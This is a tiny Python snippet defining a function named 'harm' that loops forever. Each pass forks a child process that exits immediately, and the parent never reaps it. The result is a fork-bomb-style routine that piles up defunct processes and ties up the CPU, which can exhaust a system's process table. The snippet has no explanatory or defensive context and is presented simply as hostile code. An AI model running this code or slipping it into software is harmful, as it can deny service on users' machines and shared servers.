import os


def harm():
    while True:
        if os.fork() == 0:
            os._exit(0)
